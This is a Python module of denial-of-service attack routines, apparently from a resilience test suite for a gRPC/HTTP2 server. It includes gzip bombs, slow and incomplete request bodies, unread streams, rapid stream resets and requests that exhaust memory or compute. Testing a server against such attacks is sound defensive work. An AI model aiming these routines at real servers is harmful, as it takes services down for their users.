"""The attacks: each is let loose on an address, and answers with its connections still open.

The tests look at the server then; the soak lets them loose again and again.
"""

import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import AbstractContextManager, contextmanager
from typing import Any

from . import requests
from .http2 import (
    HEALTH,
    LONG,
    MOST,
    REFLECTION,
    Connection,
    Connections,
    answered,
    connected,
    message,
    over,
    pump,
    sent,
)

Attack = AbstractContextManager[Connections]

MIB = 2**20
_AHEAD = 2**14
"""Bytes of resets that wait for the socket, so that what is counted is what was sent."""
SILENT = {
    "Execute": "Execute",
    "GetServerInfo": "GetServerInfo",
    "health": HEALTH,
    "reflection": REFLECTION,
    "streams": "ExecuteStream",
}
"""Where calls can be opened that never say anything."""


@contextmanager
def calls(
    target: str,
    wanted: Sequence[tuple[str, *tuple[bytes, ...]]],
    *,
    seconds: float = 1,
    until: Callable[[Sequence[Connection]], bool] = lambda _: False,
    connections: int = 1,
    window: int = MOST,
    **options: Any,
) -> Iterator[Connections]:
    """Calls, each a path and the parts of a body, over several connections in turn."""
    with connected(target, connections, window) as made:
        for number, (path, *parts) in enumerate(wanted):
            made[number % connections].call(path, *parts, **options)
        pump(made, seconds, until)
        yield made


def working_memory(target: str, operator: str, share: int, count: int = 4) -> Attack:
    """Calls of some hundred bytes at a time, each with a tensor of ``share`` bytes.

    On streams, where an answer may be as long as memory allows; none is read.
    """
    parts = message(requests.begun(1, requests.WORKING_MEMORY[operator](share)))
    return calls(
        target, [("ExecuteStream", *parts)] * count, seconds=LONG, until=answered,
        connections=count, window=0, end=False,
    )  # fmt: skip


def bodies_one_byte_short(target: str, count: int, size: int) -> Attack:
    """Requests of which all has come but the last byte."""
    parts = message(bytes(size - 1), short=1)
    wanted = [("Execute", *parts)] * count
    return calls(target, wanted, seconds=30, until=sent, connections=4, end=False)


def gzip_bombs(target: str, path: str, bomb: bytes) -> Attack:
    """A message that is many times as large once it is unpacked."""
    wanted = [(path, *message(bomb, compressed=True))]
    return calls(target, wanted, seconds=LONG, until=over, encoding="gzip")


def padding(target: str, count: int, size: int) -> Attack:
    """Calls behind unknown fields, more of them than are computed in a second."""
    parts = requests.padded(size)
    wanted = [("Execute", bytes(1) + sum(map(len, parts)).to_bytes(4), *parts)] * count
    return calls(target, wanted, seconds=40, until=over, connections=4)


def small_fields(target: str, kind: str, size: int, count: int = 4) -> Attack:
    """Messages that are full of small fields."""
    path, body = requests.crowded(size)[kind]
    wanted = [(path, *message(body))] * count
    return calls(target, wanted, seconds=LONG, until=over, connections=count)


@contextmanager
def unread_answers(target: str, count: int, size: int) -> Iterator[Connections]:
    """Small requests with large answers, each begun before the next is asked for, none read."""
    with connected(target, window=0) as made:
        end = time.monotonic() + 25
        while made[0].opened < count and time.monotonic() < end:
            made[0].call("Execute", *message(requests.large_answer(size)))
            pump(made, 5, answered)
        yield made


def endless_steps(target: str, count: int = 2) -> Attack:
    """Calls of 3 million steps, of some hundred bytes."""
    wanted = [("Execute", *message(requests.ctc(steps=3_000_000)))] * count
    return calls(target, wanted, connections=count)


def silence(target: str, path: str, count: int) -> Attack:
    """Calls on one connection that are opened and say nothing."""
    return calls(target, [(path,)] * count, end=False)


def frames(target: str, streams: int, *bodies: bytes, window: int = MOST) -> Attack:
    """Streams on one connection that send these frames and then nothing."""
    parts = [part for body in bodies for part in message(body)]
    return calls(target, [("ExecuteStream", *parts)] * streams, window=window, end=False)


def a_claim_on_everything(target: str, size: int) -> Attack:
    """One begin of some hundred bytes, which wants nearly all the memory there is."""
    return frames(target, 1, requests.claim(1, size * 3 // 4))


def streams_that_do_not_read(target: str, size: int) -> Attack:
    """Three streams with as many answers each as they may have, none of which is read."""
    request = requests.large_answer(size)
    return frames(target, 3, *(requests.begun(i, request) for i in range(1, 33)), window=0)


def calls_without_bytes(target: str) -> Attack:
    """66 calls of some bytes which never come, on three streams."""
    return frames(target, 3, *(requests.claim(number, 64) for number in range(1, 23)))


@contextmanager
def resets(target: str, seconds: float) -> Iterator[Connections]:
    """Calls that are opened and reset, as fast as this process can."""
    parts = message(requests.SMALL)

    def more(made: Sequence[Connection]) -> bool:
        while made[0].unsent < _AHEAD:
            made[0].reset(made[0].call("Execute", *parts))
        return False

    with connected(target) as made:
        pump(made, seconds, more)
        yield made


def idle_connections(target: str, count: int) -> Attack:
    """Connections that greet and say nothing more."""
    return calls(target, [], seconds=3, connections=count)


def endings(made: Connections) -> str:
    """How the calls ended, for a figure: each status with how often it came."""
    ends = Counter(end for each in made for end in each.ended.values())
    unread = sum(len(each.received.keys() - each.ended) for each in made if each.open_streams)
    closed = sum(each.closed for each in made)
    return f"by status {dict(ends)}, {unread} answers begun, {closed} connections closed"
